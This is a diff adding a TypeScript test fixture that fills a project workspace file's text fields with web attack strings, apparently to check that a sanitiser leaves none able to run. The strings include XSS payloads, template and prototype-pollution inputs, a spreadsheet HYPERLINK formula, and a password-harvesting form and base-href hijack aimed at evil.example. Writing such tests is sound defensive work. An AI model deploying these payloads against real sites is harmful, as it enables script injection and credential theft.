@@ -1,0 +1,81 @@
+// A workspace in which every text is an attack, made from any workspace file.
+
+/** attacks are what people with bad intentions write into fields. Each fits into the shortest of them, a name of 80 characters. */
+export const attacks = [
+  '<img src=x onerror=window.__pwned=1>',
+  '<script>window.__pwned=1</script>',
+  '"><svg onload=window.__pwned=1>',
+  "'-window.__pwned=1-'",
+  'javascript:window.__pwned=1//',
+  '[x](javascript:window.__pwned=1) ![x](http://evil.example/x.png)',
+  "{{constructor.constructor('window.__pwned=1')()}}",
+  '\u0024{window.__pwned=1}<%= 7*7 %>',
+  '</title></style></textarea><iframe srcdoc="<script>">',
+  '<a href="http://evil.example/">x</a>&lt;b&gt;%00%s',
+  '\u202Egnp.kcatta\u202C\u200B\uFEFF',
+  'W'.repeat(70),
+  '=HYPERLINK("http://evil.example/","x")',
+  '__proto__',
+  'constructor',
+  'http://evil.example/?a=<b>',
+];
+
+/** rich is what people with bad intentions send as a comment: some of it is let through by the sanitiser, none of it may act. */
+export const rich = [
+  ...attacks,
+  '<p onclick="window.__pwned=1">a</p>',
+  '<a href="javascript:window.__pwned=1">a</a><a href="http://evil.example/">b</a>',
+  '<img src="http://evil.example/x.png"><style>*{display:none}</style><p style="position:fixed;inset:0">over</p>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
+  '<form action="http://evil.example/"><input name="password"><button>go</button></form>',
+  '<p id="root" class="mantine-Modal-root" data-testid="x">b</p><base href="http://evil.example/">',
+];
+
+/** free are the members of a workspace file that hold what somebody wrote; lists hold lines of it. */
+const free = new Set([
+  'name',
+  'title',
+  'description',
+  'goal',
+  'comment',
+  'label',
+  'service',
+  'firstname',
+  'lastname',
+  'type',
+]);
+const lists = new Set(['default_dod', 'dod', 'dod_done', 'acceptance_criteria', 'ticket_types']);
+/** bound are the members whose values are checked, or refer to something. */
+const bound = new Set(
+  `assignee at author bg_color color committed_at created_at date day deleted_at dependencies done_at email end_date epic from key
+  logged_at mentions noun plan pred priority project_role rates_for ref renamed_at reported_at scrum_role sprint start_date status
+  subscribed_at succ super_epic tags to updated_at user uuid what`.split(/\s+/),
+);
+
+/** Poison gives every text an attack: equal texts of a kind the same, different ones different. */
+export class Poison {
+  private readonly given = new Map<string, string>();
+
+  of(kind: string, text: string): string {
+    const key = `${kind} ${text}`;
+    const known = this.given.get(key);
+    if (known !== undefined) return known;
+    const n = this.given.size;
+    const attack = `${attacks[n % attacks.length]}${n < attacks.length ? '' : ` ${n}`}`;
+    this.given.set(key, attack);
+    return attack;
+  }
+
+  /** workspace poisons a workspace file. A member that is neither known as a text nor as bound fails: say which it is. */
+  workspace(node: unknown, name = '', parent = ''): unknown {
+    if (Array.isArray(node)) return node.map((item) => this.workspace(item, name, parent));
+    if (node !== null && typeof node === 'object') {
+      return Object.fromEntries(Object.entries(node).map(([key, value]) => [key, this.workspace(value, key, name)]));
+    }
+    if (typeof node !== 'string' || bound.has(name)) return node;
+    if (name === 'content') return `<p>text</p>${rich[this.given.size % rich.length]}`;
+    if (name === 'type' || name === 'ticket_types' || parent === 'types') return this.of('type', node);
+    if (free.has(name) || lists.has(name)) return this.of(name, node);
+    throw new Error(`the member ${parent}.${name} is neither known as a text nor as bound`);
+  }
+}
